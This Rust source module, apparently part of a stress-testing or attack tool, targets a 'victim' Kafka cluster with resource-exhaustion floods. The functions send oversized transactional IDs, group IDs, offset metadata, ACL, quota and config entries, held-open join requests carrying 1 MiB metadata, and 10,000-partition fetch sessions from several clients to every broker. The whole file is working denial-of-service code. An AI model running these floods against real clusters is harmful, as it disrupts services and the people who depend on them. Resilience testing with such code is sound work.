//! What a cluster keeps of its clients: each as much as it takes.

use std::time::Instant;

use anyhow::Result;
use bytes::Bytes;
use kafka_protocol::messages::alter_client_quotas_request::{EntityData, EntryData, OpData};
use kafka_protocol::messages::create_acls_request::AclCreation;
use kafka_protocol::messages::fetch_request::{FetchPartition, FetchTopic};
use kafka_protocol::messages::incremental_alter_configs_request::{
    AlterConfigsResource, AlterableConfig,
};
use kafka_protocol::messages::join_group_request::JoinGroupRequestProtocol;
use kafka_protocol::messages::offset_commit_request::{
    OffsetCommitRequestPartition, OffsetCommitRequestTopic,
};
use kafka_protocol::messages::{
    AlterClientQuotasRequest, CreateAclsRequest, FetchRequest, GroupId,
    IncrementalAlterConfigsRequest, InitProducerIdRequest, JoinGroupRequest, OffsetCommitRequest,
    TransactionalId,
};
use kafka_protocol::protocol::Request;

use super::{Attack, at_once, hold};
use crate::target::TOPIC;
use crate::wire::{Connection, frame, name, text};

/// The longest text that Kafka takes.
const TEXT_BYTES_MAX: usize = 32_767;

/// A long text that nothing else has.
fn long(client: usize, at: usize, bytes: usize) -> String {
    let mut text = format!("{client}-{at}-");
    text.push_str(&"x".repeat(bytes - text.len()));
    text
}

/// Sends one request after the other, each of them another, from several clients to every broker.
fn keep<R: Request>(
    attack: &Attack<'_>,
    version: i16,
    request: impl Fn(usize, usize) -> R + Sync,
) -> Result<()> {
    let seed = usize::try_from(attack.seed)?;
    at_once(attack, 8, |client, deadline| {
        let mut connection = attack.victim.connect(client)?;
        let mut at = seed << 20;
        while Instant::now() < deadline {
            connection.send(&frame(&request(client, at), version)?);
            if !connection.skip() {
                connection = attack.victim.connect(client)?;
            }
            at += 1;
        }
        Ok(())
    })
}

pub(super) fn transactional_ids(attack: &Attack<'_>) -> Result<()> {
    // Far too long: the connection is closed.
    let id = |bytes: usize, client: usize, at: usize| {
        InitProducerIdRequest::default()
            .with_transactional_id(Some(TransactionalId(text(&long(client, at, bytes)))))
            .with_transaction_timeout_ms(60_000)
            .with_producer_id((-1).into())
            .with_producer_epoch(-1)
    };
    for at in 0..12 {
        let mut connection = attack.victim.connect(at)?;
        connection.send(&frame(&id(20 << 20, 0, at), 4)?);
    }
    keep(attack, 4, |client, at| id(TEXT_BYTES_MAX, client, at))
}

fn commit(group: &str, topic: &str, partitions: i32, metadata: &str) -> OffsetCommitRequest {
    let partition = |index| {
        OffsetCommitRequestPartition::default()
            .with_partition_index(index)
            .with_committed_offset(7)
            .with_committed_metadata(Some(text(metadata)))
    };
    let topic = OffsetCommitRequestTopic::default()
        .with_name(name(topic))
        .with_partitions((0..partitions).map(partition).collect());
    OffsetCommitRequest::default()
        .with_group_id(GroupId(text(group)))
        .with_generation_id_or_member_epoch(-1)
        .with_topics(vec![topic])
}

pub(super) fn group_ids(attack: &Attack<'_>) -> Result<()> {
    keep(attack, 8, |client, at| {
        commit(&long(client, at, TEXT_BYTES_MAX), TOPIC, 1, "")
    })
}

pub(super) fn offset_metadata(attack: &Attack<'_>) -> Result<()> {
    const WIDE: &str = "wide";
    const PARTITIONS: i32 = 100;
    attack.victim.connect(0)?.create(WIDE, PARTITIONS, &[])?;
    let metadata = "x".repeat(4_096);
    keep(attack, 8, |client, at| {
        commit(&format!("{client}-{at}"), WIDE, PARTITIONS, &metadata)
    })
}

pub(super) fn group_members(attack: &Attack<'_>) -> Result<()> {
    let protocol = JoinGroupRequestProtocol::default()
        .with_name(text("range"))
        .with_metadata(Bytes::from(vec![0; (1 << 20) - 100]));
    let mut first = attack.victim.connect(0)?;
    let mut open = Vec::new();
    for at in 0..64 {
        let group = format!("members-{}", at / 4);
        let request = JoinGroupRequest::default()
            .with_group_id(GroupId(text(&group)))
            .with_session_timeout_ms(60_000)
            .with_rebalance_timeout_ms(60_000)
            .with_protocol_type(text("consumer"))
            .with_protocols(vec![protocol.clone()]);
        let mut connection = Connection::open(&first.coordinator(&group, 0)?)?;
        connection.set_patience(attack.time / 20)?;
        connection.send(&frame(&request, 3)?);
        open.push(connection);
    }
    hold(attack, open)
}

pub(super) fn quota_names(attack: &Attack<'_>) -> Result<()> {
    keep(attack, 1, |client, at| {
        let entry = |entry: usize| {
            let entity = EntityData::default()
                .with_entity_type(text("client-id"))
                .with_entity_name(Some(text(&long(client, at * 100 + entry, 1_024))));
            let op = OpData::default()
                .with_key(text("producer_byte_rate"))
                .with_value(1e9);
            EntryData::default()
                .with_entity(vec![entity])
                .with_ops(vec![op])
        };
        AlterClientQuotasRequest::default().with_entries((0..100).map(entry).collect())
    })
}

pub(super) fn acl_texts(attack: &Attack<'_>) -> Result<()> {
    keep(attack, 3, |client, at| {
        let acl = |entry: usize| {
            AclCreation::default()
                .with_resource_type(3)
                .with_resource_name(text(&long(client, at * 50 + entry, 4_096)))
                .with_resource_pattern_type(3)
                .with_principal(text(&format!("User:{}", long(client, entry, 4_000))))
                .with_host(text("*"))
                .with_operation(3)
                .with_permission_type(3)
        };
        CreateAclsRequest::default().with_creations((0..50).map(acl).collect())
    })
}

pub(super) fn config_texts(attack: &Attack<'_>) -> Result<()> {
    let value = "0:0,".repeat(TEXT_BYTES_MAX / 4);
    keep(attack, 1, |client, at| {
        let setting = |name: &str| {
            AlterableConfig::default()
                .with_name(text(name))
                .with_value(Some(text(value.trim_end_matches(','))))
        };
        let of_topic = AlterConfigsResource::default()
            .with_resource_type(2)
            .with_resource_name(text(TOPIC))
            .with_configs(vec![
                setting("leader.replication.throttled.replicas"),
                setting("follower.replication.throttled.replicas"),
            ]);
        let timeout = AlterableConfig::default()
            .with_name(text("consumer.session.timeout.ms"))
            .with_value(Some(text("50000")));
        let of_group = AlterConfigsResource::default()
            .with_resource_type(32)
            .with_resource_name(text(&long(client, at, 1_024)))
            .with_configs(vec![timeout]);
        IncrementalAlterConfigsRequest::default().with_resources(vec![of_topic, of_group])
    })
}

pub(super) fn fetch_sessions(attack: &Attack<'_>) -> Result<()> {
    keep(attack, 12, |client, at| {
        let partition = |index| FetchPartition::default().with_partition(index);
        let topic = FetchTopic::default()
            .with_topic(name(&format!("absent-{client}-{at}")))
            .with_partitions((0..10_000).map(partition).collect());
        FetchRequest::default()
            .with_session_epoch(0)
            .with_topics(vec![topic])
    })
}
